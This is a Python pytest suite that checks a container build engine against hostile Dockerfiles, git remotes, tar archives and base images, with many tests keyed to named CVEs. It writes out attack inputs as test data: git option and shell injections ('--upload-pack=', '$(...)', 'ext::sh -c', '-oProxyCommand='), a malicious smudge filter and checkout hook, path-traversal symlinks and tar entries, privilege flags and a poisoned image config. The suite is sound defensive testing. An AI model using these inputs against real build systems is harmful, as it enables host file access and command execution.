"""Hostile Dockerfiles, contexts, repositories and base images: each name of line D 36 has a test that it does nothing.

The builder of whoever is root can hurt nobody but himself; these are builds of other people's files.
"""

import contextlib
import hashlib
import io
import json
import os
import re
import tarfile
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest

from tests import needs
from tests.engine_process import Engine
from tests.integration.engine.builder.conftest import Builds
from tests.integration.engine.builder.servers import git, git_server, repository, web_server

pytestmark = [needs.root, needs.binary("docker"), needs.overlay]

CANARY = "canary-0ddba11"


@pytest.fixture(scope="module")
def builds(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Builds]:
    """One engine for all."""
    with Engine(tmp_path_factory.mktemp("attacked") / "e") as engine:
        yield Builds(engine)


@pytest.fixture
def host(tmp_path: Path) -> Path:
    """A folder of the host that no build may read or change."""
    folder = tmp_path / "host"
    folder.mkdir()
    (folder / "secret").write_text(CANARY)
    return folder


def _untouched(host: Path) -> None:
    assert os.listdir(host) == ["secret"]
    assert (host / "secret").read_text() == CANARY


def _remote(builds: Builds, remote: str, **query: str) -> str:
    """`POST /build?remote=`: the engine itself fetches."""
    with contextlib.closing(builds.engine_http()) as connection:
        more = "".join(f"&{name}={quote(value)}" for name, value in query.items())
        connection.request("POST", f"/build?networkmode=none&remote={quote(remote, safe='')}{more}")
        return connection.getresponse().read().decode()


@needs.binary("git")
@pytest.mark.parametrize(
    "part", ["#--upload-pack=touch {0}", "#x:--upload-pack=touch {0}", "#`touch {0}`", "#$(touch {0})"]
)
def test_nothing_of_a_git_address_becomes_an_option(builds: Builds, tmp_path: Path, host: Path, part: str) -> None:
    """CVE-2019-13139."""
    repository(tmp_path / "srv/x.git", {"Dockerfile": "FROM busybox\n"})
    with git_server(tmp_path / "srv") as url:
        address = f"{url}/x.git{part.format(host / 'made')}"
        for remote in (address, address.replace("git://", "git://-oProxyCommand=")):
            assert "error" in _remote(builds, remote) or "message" in _remote(builds, remote)
            assert builds.wherry("build", remote, check=False).returncode != 0
        added = f"FROM busybox\nADD ['{address}', '/x']\n".replace("'", '"')
        assert builds.build(tmp_path / "c", added, check=False).returncode != 0
    for remote in (
        f"ext::sh -c touch% {host}/made",
        f"--upload-pack=touch {host}/made",
        f"file://{tmp_path}/srv/x.git",
    ):
        assert "message" in _remote(builds, remote)
    _untouched(host)


@needs.binary("git")
def test_a_repositorys_folder_stays_inside_of_it_and_its_hooks_and_filters_stay_asleep(
    builds: Builds, tmp_path: Path, host: Path
) -> None:
    """CVE-2026-33748; and what a checkout could be made to run."""
    (host / "Dockerfile").write_text(f"FROM busybox\nLABEL leaked={CANARY}\n")
    work = repository(
        tmp_path / "srv/x.git",
        {
            "Dockerfile": "FROM busybox\n",
            "out": f"->{host}",
            "up": "->../../../../../../../../../../../../",
            ".gitattributes": "* filter=evil\n",
        },
    )
    git(work, "config", "filter.evil.smudge", f"touch {host}/made")
    (work / ".git/hooks/post-checkout").write_text(f"#!/bin/sh\ntouch {host}/made\n")
    (work / ".git/hooks/post-checkout").chmod(0o755)
    with git_server(tmp_path / "srv") as url:
        for folder in ("out", f"up{host}", f"../..{host}", str(host)):
            assert CANARY not in _remote(builds, f"{url}/x.git#:{folder}", t="leaked")
            done = builds.build(
                tmp_path / "c", f"FROM busybox\nADD {url}/x.git#:{folder} /x\n", "-t", "leaked", check=False
            )
            assert done.returncode != 0
            assert builds.wherry("build", "-t", "leaked", f"{url}/x.git#:{folder}", check=False).returncode != 0
    assert "leaked" not in builds.engine.out("images")
    (host / "Dockerfile").unlink()
    _untouched(host)


@needs.binary("git")
def test_a_password_in_an_address_is_in_no_history_stream_or_log(builds: Builds, tmp_path: Path) -> None:
    """CVE-2023-26054."""
    git(repository(tmp_path / "srv/x.git", {"Dockerfile": "FROM busybox\n", "f": ""}), "update-server-info")
    with web_server(tmp_path / "srv") as web, git_server(tmp_path / "srv") as url:
        secret = web.replace("http://", f"http://user:{CANARY}@") + "/x.git/.git"
        said = _remote(builds, secret, t="provenance")
        assert "Successfully tagged provenance" in said
        text = "FROM busybox\nARG U\nADD $U /x\n"
        builds.build(tmp_path / "c", text, "--build-arg", f"U={secret}", "-t", "added")
        for wrong in (secret.replace("/x", "/absent"), url.replace("git://", f"git://user:{CANARY}@") + "/x.git"):
            said += _remote(builds, wrong)
            said += builds.build(tmp_path / "c", text, "--build-arg", f"U={wrong}", check=False).stderr
    told = [builds.engine.out(*words) for words in (("history", "--no-trunc", "provenance"), ("inspect", "provenance"))]
    assert CANARY not in said + "".join(told)
    assert CANARY not in builds.engine.log.read_text()


def test_a_frontend_that_a_dockerfile_names_is_not_run(builds: Builds, tmp_path: Path) -> None:
    """CVE-2026-33747, and every frontend before it: the language is the engine's own."""
    builds.build(tmp_path / "c", "# syntax=evil.example/frontend:latest\nFROM busybox\nRUN true\n", "-t", "frontend")
    assert "evil.example" not in builds.engine.out("images")


def test_cache_mounts_are_named_by_digest_and_filled_from_inside_their_root(
    builds: Builds, tmp_path: Path, host: Path
) -> None:
    """CVE-2024-23651, CVE-2024-9675: no id and no source leads out of the engine's folder."""
    done = builds.build(
        tmp_path / "c",
        f"FROM busybox AS evil\nRUN ln -s {host} /link && ln -s ../../../../../../../..{host} /up && mkdir -p {host}\n"
        "FROM busybox\n"
        f"RUN --mount=type=cache,id=../../../../../../../../{host},target=/a ls -A /a > /seen\n"
        f"RUN --mount=type=cache,from=evil,source=link,target=/b,id=b ls -A /b >> /seen; touch /b/made\n"
        f"RUN --mount=type=cache,from=evil,source=up,target=/c,id=c ls -A /c >> /seen; touch /c/made\n",
        *("-t", "caches"),
    )
    assert done.returncode == 0
    assert builds.run("caches", "cat /seen") == ""
    _untouched(host)


def test_the_end_of_a_mount_removes_nothing_of_the_host(builds: Builds, tmp_path: Path, host: Path) -> None:
    """CVE-2024-23652: the step puts a link where its mount point's folder was."""
    builds.build(
        tmp_path / "c",
        "FROM busybox\nRUN mkdir -p /d\n"
        f"RUN --mount=type=cache,target=/d/secret --mount=type=tmpfs,target=/d/t mv /d /e; ln -s {host} /d\n"
        f"RUN --mount=type=cache,target=/d/secret --mount=type=bind,target=/d/other true\n",
        check=False,
    )
    assert builds.leftovers() == []
    _untouched(host)


@pytest.mark.parametrize(
    "line",
    [
        *(
            "RUN --security=insecure id",
            "RUN --network=host id",
            "RUN --device=all id",
            "ONBUILD RUN --security=insecure id",
        ),
        *("RUN --mount=type=bind,bind-propagation=rshared,target=/x id", "RUN --mount=type=bind,target=/x,z id"),
    ],
)
def test_a_dockerfile_gives_itself_no_privilege(builds: Builds, tmp_path: Path, line: str) -> None:
    """CVE-2024-23653; CVE-2024-9407."""
    done = builds.build(tmp_path / "c", f"FROM busybox\n{line}\n", check=False)
    assert done.returncode != 0
    assert re.search("is not supported|unexpected key", done.stderr), done.stderr


def test_neither_does_a_base_image_by_its_triggers(builds: Builds, tmp_path: Path) -> None:
    """CVE-2024-23653, by the back door."""
    builds.engine.docker("create", "--name", "trigger", "busybox")
    builds.engine.docker("commit", "-c", "ONBUILD RUN --network=host id", "trigger", "evilbase", check=False)
    builds.engine.docker("rm", "trigger")
    done = builds.build(tmp_path / "c", "FROM evilbase\n", check=False)
    assert done.returncode != 0
    assert "uid=" not in done.stdout


def test_nonsense_does_not_end_the_engine(builds: Builds, tmp_path: Path) -> None:
    """CVE-2024-23650: what a client or frontend may leave out, or send in another shape."""
    for query in (
        "outputs=[null]", "outputs=[{}]", "cachefrom=[null]", "cachefrom={}", "labels=[]", "buildargs={%22a%22:{}}",
        "ulimits=[null]", "ulimits=[{}]", "extrahosts=[null]", "contexts={%22a%22:null}", "version=2&session=x",
        "platform=/", "t=:", "memory=-9999999999999999999999", "shmsize=-1", "remote=%00", "target=%00&q=%00",
    ):  # fmt: skip
        with contextlib.closing(builds.engine_http()) as connection:
            connection.request("POST", f"/build?{query}", _tar({"Dockerfile": b"FROM busybox\n"}))
            answer = connection.getresponse()
            assert answer.status < 500 or answer.status == 501, (query, answer.read())
            answer.read()
    for body in (b"", b"\0" * 1024, b"\x1f\x8bnothing", _tar({})[:700], os.urandom(4096)):
        with contextlib.closing(builds.engine_http()) as connection:
            connection.request("POST", "/build", body)
            answer = connection.getresponse()
            assert answer.status in (200, 400, 500), answer.read()
            answer.read()
    builds.build(tmp_path / "c", "FROM busybox\nRUN true\n")


def test_patterns_of_stars_hold_nobody_up(builds: Builds, tmp_path: Path) -> None:
    """In .dockerignore, --exclude, globs and substitutions: the engine goes on answering."""
    stars = "a*" * 30 + "b"
    with contextlib.closing(builds.engine_http()) as connection:
        text = f"FROM busybox\nARG X={'a' * 2000}\nENV Y=${{X##*{stars}}} Z=${{X%%{stars}*}}\n"
        text += f"COPY --exclude={stars} a* /c/\n"
        body = _tar({"Dockerfile": text.encode(), ".dockerignore": stars.encode(), "a" * 200: b"", "a" * 100: b""})
        connection.sock.settimeout(60)  # type: ignore[union-attr]
        connection.request("POST", "/build", body)
        assert "Successfully built" in connection.getresponse().read().decode()


def test_what_a_pulled_image_claims_of_itself_is_no_cached_step(builds: Builds, tmp_path: Path, host: Path) -> None:
    """CVE-2024-24557: an image made to look like the next step of somebody's FROM scratch."""
    layer = _tar({"poison": CANARY.encode()})
    config = {
        "architecture": "amd64",
        "os": "linux",
        "config": {"Healthcheck": {"Test": ["CMD", "poison"]}, "OnBuild": ["RUN poison"]},
        "rootfs": {"type": "layers", "diff_ids": [_digest(layer)]},
        "history": [{"created": "2020-01-01T00:00:00Z", "created_by": "/bin/sh -c #(nop)  HEALTHCHECK NONE"}],
    }
    _load(builds, tmp_path, "poisoned:latest", config, layer)
    text = 'FROM scratch\nHEALTHCHECK NONE\nCMD ["x"]\n'
    for flags in ((), ("--cache-from", "poisoned")):
        builds.build(tmp_path / "c", text, "-t", "clean", *flags)
        found = json.loads(builds.engine.out("inspect", "clean"))[0]
        assert found["Config"]["Healthcheck"] == {"Test": ["NONE"]}
        assert not found["Config"].get("OnBuild")
    builds.engine.docker("rmi", "clean", "poisoned")


def test_sources_of_mounts_and_copies_are_found_inside_of_their_stage(
    builds: Builds, tmp_path: Path, host: Path
) -> None:
    """CVE-2024-1753 (a link as a bind's source), CVE-2024-11218 (also where stages run side by side)."""
    stage = (
        f"FROM busybox AS evil\nRUN ln -s / /root-link && ln -s {host} /link && ln -s ../../../../../../..{host} /up\n"
    )
    racing = "FROM busybox AS racing\nRUN for n in 1 2 3 4 5; do ln -sfn / /swap; ln -sfn /tmp /swap; done\n"
    for mount in ("root-link", "link", "up", "swap"):
        source = "racing" if mount == "swap" else "evil"
        done = builds.build(
            tmp_path / "c",
            f"{stage}{racing}FROM busybox\n"
            f"RUN --mount=type=bind,rw,from={source},source={mount},target=/m "
            f"cat /m/secret /m{host}/secret; touch /m/made /m{host}/made; true\n",
            check=False,
        )
        assert CANARY not in done.stdout
        for place in (f"/{mount}/secret", f"/{mount}{host}/secret"):
            done = builds.build(
                tmp_path / "c", f"{stage}{racing}FROM busybox\nCOPY --from={source} {place} /x\n", check=False
            )
            assert done.returncode != 0
    _untouched(host)
    assert builds.leftovers() == []


def test_archives_and_links_write_nothing_outside(builds: Builds, tmp_path: Path, host: Path) -> None:
    """ADD of an archive that leads out; targets that are links of the image."""
    folder = tmp_path / "c"
    folder.mkdir()
    with tarfile.open(folder / "evil.tar", "w") as tar:
        for name, target in (("ln", str(host)), ("a/up", "../../../../../../../../.."), ("hard", "ln/secret")):
            entry = tarfile.TarInfo(name)
            entry.type, entry.linkname = (tarfile.LNKTYPE if name == "hard" else tarfile.SYMTYPE), target
            tar.addfile(entry)
        for name in ("ln/inside", f"a/up{host}/made", f"../../../..{host}/dots", f"{host}/absolute", "ln/secret"):
            entry = tarfile.TarInfo(name)
            entry.size = 1
            tar.addfile(entry, io.BytesIO(b"x"))
    (folder / "f").write_text("x")
    done = builds.build(
        folder,
        f"FROM busybox\nRUN ln -s {host} /out\nADD evil.tar /e/\nCOPY f /out/copied\n"
        "COPY --chown=9:9 --chmod=777 f /out/\n"
        "COPY --parents f /out/p/\nWORKDIR /out/w\n",
        check=False,
    )
    assert CANARY not in done.stdout
    _untouched(host)


def test_the_files_that_steer_a_build_are_the_contexts_own(builds: Builds, tmp_path: Path, host: Path) -> None:
    """A Dockerfile or .dockerignore that is a link out of the context, or is named by dots."""
    (host / "Dockerfile").write_text("FROM busybox\nLABEL leaked=1\n")
    (host / "ignore").write_text("x\n")
    for files, query in (
        ({"Dockerfile": f"->{host}/Dockerfile"}, ""),
        ({"Dockerfile": f"->../../../../../../../../..{host}/Dockerfile"}, ""),
        ({"f": b""}, f"?dockerfile=../../../../../../../../../..{host}/Dockerfile"),
        ({"f": b""}, f"?dockerfile={host}/Dockerfile"),
    ):
        with contextlib.closing(builds.engine_http()) as connection:
            connection.request("POST", f"/build{query}", _tar(files))
            assert "leaked" not in (said := connection.getresponse().read().decode())
            assert "message" in said or "error" in said
    with contextlib.closing(builds.engine_http()) as connection:
        body = _tar({"Dockerfile": b"FROM busybox\nCOPY . /c\n", ".dockerignore": f"->{host}/ignore", "x": b""})
        connection.request("POST", "/build?t=ignored", body)
        assert "Successfully" in connection.getresponse().read().decode()
    assert builds.run("ignored", "ls /c/x") == "/c/x"
    for path in (host / "Dockerfile", host / "ignore"):
        path.unlink()
    _untouched(host)


def _tar(files: dict[str, bytes | str] | dict[str, bytes] | dict[str, str]) -> bytes:
    """Bytes are content, `->text` is a link."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        for name, content in files.items():
            entry = tarfile.TarInfo(name)
            if isinstance(content, str):
                entry.type, entry.linkname = tarfile.SYMTYPE, content.removeprefix("->")
                tar.addfile(entry)
            else:
                entry.size = len(content)
                tar.addfile(entry, io.BytesIO(content))
    return buffer.getvalue()


def _digest(data: bytes) -> str:
    return f"sha256:{hashlib.sha256(data).hexdigest()}"


def _load(builds: Builds, folder: Path, name: str, config: dict[str, object], layer: bytes) -> None:
    """An image by `docker load`, made by hand."""
    document = json.dumps(config).encode()
    manifest = json.dumps([{"Config": "config.json", "RepoTags": [name], "Layers": ["layer.tar"]}]).encode()
    (folder / "poison.tar").write_bytes(_tar({"config.json": document, "layer.tar": layer, "manifest.json": manifest}))
    builds.engine.docker("load", "-i", str(folder / "poison.tar"))
